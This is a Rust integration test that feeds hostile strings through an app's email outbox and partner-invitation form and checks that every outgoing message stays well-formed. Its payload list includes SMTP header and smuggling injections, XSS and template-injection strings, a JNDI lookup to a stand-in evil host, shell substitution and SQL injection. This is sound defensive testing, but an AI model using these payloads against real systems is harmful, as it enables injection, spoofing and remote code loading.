//! What people may have typed, through a real receiver: every letter stays one letter, and says no more than ours do.

use crate::{
    smtp::{Receiver, hub_with_relay},
    support::{TestApp, people::new_partner, unlimited_invitations},
};
use chrono::TimeDelta;
use partner_hub::{
    db::is_postgres,
    outbox::{self, Letter},
};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// The longest subject, in characters.
const SUBJECT: usize = 150;

/// Words that somebody thought somewhere would be more than words.
fn hostile() -> Vec<String> {
    let short = [
        "\r",
        "\n",
        "\0",
        "a\rb",
        "a\nb",
        "a\0b",
        "a\r\nBcc: victim@evil.example",
        "a\n\nSubject: another\n\nbody",
        "a\r\n\r\n<script>alert(1)</script>",
        "a\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
        ".",
        ".\n.\n.",
        "From here on\nFrom there",
        "\u{202e}gnp.exe",
        "\u{2067}abc\u{2069}",
        "a\u{200f}b\u{200e}c",
        "a\u{2028}b\u{2029}c",
        "a\u{85}b\u{b}c\u{c}d",
        "\u{feff}bom",
        "a\u{1b}[31mred\u{7}",
        "a\u{7f}b\u{9f}c",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</p></td></tr></table><h1>Ours?</h1>",
        "\"><a href=\"https://evil.example/\">Click</a>",
        "' onmouseover='alert(1)",
        "<!--",
        "]]> --> */ //",
        "&lt;b&gt; &amp; &#x3c;",
        "{{ 7*7 }}",
        "{% for x in range(1000000) %}x{% endfor %}",
        "{{ link }} {{ vendor }} {# comment #}",
        "{%",
        "}}",
        "=> Click | https://evil.example/",
        "Subject: something else",
        "> quoted\n> more",
        "=?utf-8?B?QmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
        "Ada <evil@evil.example>, Bob",
        "\"quoted\\\" name",
        "(comment) [literal] @ ; : ,",
        "Ünïcødé 合作夥伴 شركة 👩‍👩‍👧‍👦",
        "Z\u{335}\u{321}\u{489}a\u{338}\u{341}l\u{337}\u{35d}g\u{334}\u{352}o\u{336}\u{35f}",
        "%s %n $(id) `id` ${jndi:ldap://evil.example}",
        "'; DROP TABLE outbox; --",
    ];
    let mut all: Vec<_> = short.map(str::to_owned).to_vec();
    all.extend(["x", "👋", "ab ", "<b>", "é\n"].map(|unit| unit.repeat(10_000)));
    all
}

/// The tags of a letter in their order: what people typed can only be text between them.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split(|c: char| c.is_whitespace() || c == '>').next().unwrap()).collect()
}

/// Whether the bytes on the line are one letter of ours and nothing else.
fn is_sound(letter: &Value) {
    let raw = letter["raw"].as_str().unwrap();
    let shown = || raw.chars().take(2_000).collect::<String>();
    let bare = raw.replace("\r\n", "");
    assert!(!bare.contains(['\r', '\n', '\0']), "lines end in one way: {}", shown());
    assert!(raw.split("\r\n").all(|line| line.len() <= 998), "lines that every server takes: {}", shown());
    let head = raw.split_once("\r\n\r\n").unwrap().0;
    assert!(head.chars().all(|c| c == '\r' || c == '\n' || c == '\t' || (' '..='~').contains(&c)), "{head}");
    let mut names: Vec<_> = head.split("\r\n").filter(|line| !line.starts_with([' ', '\t'])).collect();
    names.iter_mut().for_each(|line| *line = line.split(':').next().unwrap());
    names.sort_unstable();
    let ours = ["Auto-Submitted", "Content-Type", "Date", "From", "MIME-Version", "Message-ID", "Subject", "To"];
    assert_eq!(names, ours, "{head}");
    let subject = letter["subject"].as_str().unwrap();
    assert!((1..=SUBJECT).contains(&subject.chars().count()), "{subject}");
    for part in ["subject", "text", "html"] {
        let text = letter[part].as_str().unwrap();
        let kept = |c: char| part != "subject" && matches!(c, '\n' | '\t');
        let odd = text.chars().find(|c| (c.is_control() || is_direction(*c)) && !kept(*c));
        assert_eq!(odd, None, "{part}: {}", shown());
    }
}

fn is_direction(c: char) -> bool {
    matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Rows as they may be there already, whatever the doors take today.
async fn enqueue_all(app: &TestApp) -> usize {
    let tx = app.system().begin().await.unwrap();
    let mut count = 0;
    for (n, mut words) in hostile().into_iter().enumerate() {
        if is_postgres(tx.conn()) {
            // Its rows cannot hold one.
            words = words.replace('\0', "\u{1}");
        }
        let (partner, integration, reason) = (words.clone(), words.clone(), words);
        for letter in [
            Letter::Approved { partner: partner.clone() },
            Letter::IntegrationPublished { integration: integration.clone(), id: None },
            Letter::ChangesRequested { partner: "Acme".into(), reason: reason.clone() },
            Letter::Rejected { partner, reason: "No.".into() },
            Letter::IntegrationChangesRequested { integration, reason, comments: 1, id: None },
        ] {
            let to = format!("n{n}@{}.example", letter.kind().replace('_', "-"));
            outbox::enqueue(tx.conn(), tx.id(), tx.now(), &to, &letter, None).await.unwrap();
            count += 1;
        }
    }
    tx.commit().await.unwrap();
    count
}

#[tokio::test]
async fn three_hundred_hostile_texts_make_letters_like_all_others() {
    let mut receiver = Receiver::start(0).await;
    let (app, worker) = hub_with_relay(&receiver, unlimited_invitations).await;
    let admin = app.admin().await;
    // The admin's own invitation was used before it left.
    worker.drain().await.unwrap();
    let mut count = enqueue_all(&app).await;
    // Of each kind one that is harmless, behind them in the queue.
    app.hub.clock.advance(TimeDelta::seconds(1));
    let tx = app.system().begin().await.unwrap();
    for letter in [
        Letter::Approved { partner: "Acme".into() },
        Letter::IntegrationPublished { integration: "Sync".into(), id: None },
        Letter::ChangesRequested { partner: "Acme".into(), reason: "More.".into() },
        Letter::Rejected { partner: "Acme".into(), reason: "No.".into() },
        Letter::IntegrationChangesRequested {
            integration: "Sync".into(),
            reason: "More.".into(),
            comments: 1,
            id: None,
        },
    ] {
        let to = format!("harmless@{}.example", letter.kind().replace('_', "-"));
        outbox::enqueue(tx.conn(), tx.id(), tx.now(), &to, &letter, None).await.unwrap();
        count += 1;
    }
    tx.commit().await.unwrap();
    assert_eq!(worker.drain().await.unwrap(), count, "each in one try");
    assert_eq!(app.texts("SELECT DISTINCT state FROM outbox WHERE state <> 'CANCELLED'").await, ["SENT"]);
    let mut letters = BTreeMap::new();
    for _ in 0..count {
        let letter = receiver.next().await;
        is_sound(&letter);
        letters.insert(letter["recipients"][0].as_str().unwrap().to_owned(), letter);
    }
    assert_eq!(letters.len(), count, "one to each");
    for (to, letter) in &letters {
        let like = &letters[&format!("harmless@{}", to.split_once('@').unwrap().1)];
        let (html, usual) = (letter["html"].as_str().unwrap(), like["html"].as_str().unwrap());
        // A quotation of nothing is left out.
        let quote = |tag: &&str| !tag.ends_with("blockquote");
        let (seen, usual): (Vec<_>, Vec<_>) =
            (tags(html).into_iter().filter(quote).collect(), tags(usual).into_iter().filter(quote).collect());
        assert_eq!(seen, usual, "{to}");
    }

    // At the door: what is refused makes no letter, what is taken makes a sound one.
    let (mut refused, mut taken) = (0, 0);
    for (n, words) in hostile().into_iter().enumerate() {
        for field in ["name", "contact", "message"] {
            let mut input = new_partner("Acme", &format!("{field}{n}@acme.example"));
            match field {
                "name" => input["name"] = json!(words),
                "contact" => input["primaryContact"]["name"] = json!(words),
                _ => input["message"] = json!(words),
            }
            let answer = admin.try_mutate("invitePartner", "partner { id }", input).await;
            if answer.refusals("invitePartner").is_empty() {
                taken += 1;
            } else {
                refused += 1;
            }
        }
    }
    worker.drain().await.unwrap();
    // The vendor is told of each, too.
    for _ in 0..2 * taken {
        let letter = receiver.next().await;
        if letter["recipients"] != json!(["admin@example.com"]) {
            is_sound(&letter);
        }
    }
    assert_eq!(app.texts("SELECT DISTINCT state FROM outbox WHERE state <> 'CANCELLED'").await, ["SENT"]);
    assert_eq!((refused, taken), (64, 86));
}
